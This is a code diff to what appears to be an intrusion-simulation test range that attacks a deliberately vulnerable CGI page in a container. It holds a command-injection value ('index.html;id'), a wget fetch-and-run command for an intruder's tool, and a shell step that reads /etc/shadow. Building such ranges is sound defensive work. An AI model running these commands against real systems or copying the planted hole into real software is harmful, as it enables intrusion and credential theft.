@@ -18,7 +18,7 @@ from baseline.demo.cgroup import OwnCgroup
 from baseline.demo.service import Server, Step
 from baseline.workloads.cgroups import cgroup2_mount
 from ranges.intruder import Implant, Intruder
-from ranges.target import Target, require
+from ranges.target import Target, require, require_success
 
 # The hole: what was asked for is evaluated once more.
 _PAGE = """#!/bin/sh
@@ -161,7 +161,7 @@ class ContainerTarget(Target[Container]):
 
     def ways_in(self, intruder: Intruder) -> Sequence[Step]:
         """The page evaluates what it is asked for; and somebody may enter from the node."""
-        fetch = f"wget+-qO+/dev/tool+{intruder.tool};chmod+700+/dev/tool;/dev/tool+x;id"
+        fetch = f"wget+-qO+/dev/tool+{intruder.tool}&&chmod+700+/dev/tool&&/dev/tool+x&&id"
         return (
             Step("a page's script runs a command", lambda: self._ask("index.html;id", b"uid=")),
             Step(
@@ -174,7 +174,7 @@ class ContainerTarget(Target[Container]):
             ),
             Step(
                 "somebody enters the container",
-                lambda: self._run("/bin/sh", "-c", "id; ps; cat /etc/shadow; uname -a"),
+                lambda: self._run("/bin/sh", "-c", "id && ps && cat /etc/shadow && uname -a"),
             ),
         )
 
@@ -194,7 +194,7 @@ class ContainerTarget(Target[Container]):
         return Implant(partial(self.server.enter, ["/bin/implant"]))
 
     def _run(self, *command: str) -> None:
-        self.server.enter(command).wait(30)
+        require_success(self.server.enter(command), "runc exec")
 
     def _ask(self, name: str, sign: bytes) -> None:
         require(self.server.get(f"/cgi-bin/page?name={name}"), sign, "The page's script")
